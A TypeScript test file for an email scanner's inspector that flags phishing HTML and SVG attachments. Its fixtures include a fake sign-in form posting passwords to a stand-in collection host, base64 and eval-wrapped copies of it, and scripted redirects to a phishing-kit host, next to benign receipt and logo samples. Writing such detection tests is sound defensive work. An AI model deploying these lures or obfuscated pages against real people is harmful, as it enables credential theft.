import { test } from 'node:test';
import assert from 'node:assert/strict';
import { bufferModel } from '../../mime/model.js';
import { htmlAttachmentInspector, inspectPage } from './html-attachment.js';

const names = (src: string, name = 'page.html') => inspectPage(src, name).map((h) => h.name).sort();

const LOGIN = '<html><body><form action="https://collect.example.net/p.php" method="post">Sign in to view the document<input type="email" name="u"><input type="password" name="p"></form></body></html>';

test('a login page with a password field that posts away: HTML_ATTACH_CREDENTIALS, and the lure name', () => {
  assert.deepEqual(names(LOGIN, 'Invoice_8841.html'), ['ATTACH_LURE_NAME', 'HTML_ATTACH_CREDENTIALS']);
  assert.match(inspectPage(LOGIN, 'x.htm')[0]!.reason, /password and sending it away/);
});

test('a page hidden in base64 layers is unwrapped: the form and the script are found', () => {
  const inner = Buffer.from(LOGIN).toString('base64');
  const outer = `<script>document.write(atob("${inner}"));</script>`;
  const twice = `<script>eval(atob("${Buffer.from(`document.write(atob("${inner}"))`).toString('base64')}"))</script>`;
  for (const page of [outer, twice]) assert.deepEqual(names(page), ['HTML_ATTACH_CREDENTIALS', 'HTML_ATTACH_OBFUSCATED'], page.slice(0, 80));
});

test('a page that sends the browser elsewhere; an SVG with script', () => {
  assert.deepEqual(names('<html><head><meta http-equiv="refresh" content="0; url=https://kit.example.net/o365/"></head></html>'), ['HTML_ATTACH_REDIRECT']);
  assert.deepEqual(names('<script>window.location.href="https://kit.example.net/#victim@example.org"</script>'), ['HTML_ATTACH_REDIRECT']);
  assert.deepEqual(names('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>location="https://kit.example.net/"</script></svg>', 'Voicemail.svg'),
    ['ATTACH_LURE_NAME', 'HTML_ATTACH_REDIRECT', 'SVG_ACTIVE_CONTENT']);
});

test('ordinary HTML attachments get nothing: a receipt, a saved page with plain script, a plain SVG logo', () => {
  assert.deepEqual(names('<html><body><h1>Receipt</h1><table><tr><td>Total</td><td>$12.00</td></tr></table></body></html>', 'receipt.html'), []);
  assert.deepEqual(names('<html><script>var x = 1; console.log(x);</script><p>Saved page</p></html>'), []);
  assert.deepEqual(names('<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>', 'logo.svg'), []);
});

test('the inspector reads attached HTML and SVG files from the walk, not inline HTML bodies', async () => {
  const raw = Buffer.from([
    'From: a@example.net', 'To: b@example.org', 'Subject: Remittance', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=b', '',
    '--b', 'Content-Type: text/html', '', LOGIN, // the body itself: not an attachment
    '--b', 'Content-Type: text/html; name="Remittance.htm"', 'Content-Disposition: attachment; filename="Remittance.htm"', 'Content-Transfer-Encoding: base64', '',
    Buffer.from(LOGIN).toString('base64'), '--b--', '',
  ].join('\r\n'));
  const model = bufferModel(raw, { maxScanBytes: 1 << 20, walk: { inspectors: [htmlAttachmentInspector()] } });
  const walk = await model.mime();
  const found = walk.parts.flatMap((p) => p.findings.flatMap((f) => (f.symbols ?? []).map((s) => `${p.path} ${s.name}`)));
  assert.deepEqual(found.sort(), ['2 ATTACH_LURE_NAME', '2 HTML_ATTACH_CREDENTIALS']);
});
